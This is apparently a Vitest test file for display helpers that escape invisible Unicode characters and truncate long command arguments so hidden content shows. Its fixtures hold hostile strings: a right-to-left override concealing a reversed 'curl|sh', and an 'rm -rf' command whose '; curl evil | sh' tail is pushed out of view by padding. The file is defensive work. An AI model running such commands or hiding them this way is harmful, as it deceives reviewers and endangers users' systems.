import { describe, expect, it } from 'vitest';
import { visibleLine, visibleText } from '../../protocol/visible-text.js';

describe('visibleText', () => {
  it('shows what would change how text looks without being seen', () => {
    // A right-to-left override, a zero-width space, a non-breaking space, a BOM.
    const sneaky = 'echo safe \u202e;hs|lruc\u202c\u200b\u00a0\ufeff';
    expect(visibleText(sneaky)).toBe('echo safe \\u202e;hs|lruc\\u202c\\u200b\\u00a0\\ufeff');
    expect(JSON.parse(`"${visibleText(sneaky)}"`)).toBe(sneaky);
    expect(visibleText('plain text, ünïcödé and 漢字')).toBe('plain text, ünïcödé and 漢字');
  });

  it('says how much a cut line left out, and keeps runs of spaces as they are', () => {
    const args = { cmd: `rm -rf /tmp/x${' '.repeat(60)}; curl evil | sh` };
    expect(visibleLine(args, 500)).toBe(JSON.stringify(args));
    const cut = visibleLine(args, 40);
    expect(cut.length).toBeLessThanOrEqual(40);
    expect(cut).toMatch(/…\(\+\d+ chars; --json shows all\)$/);
  });
});
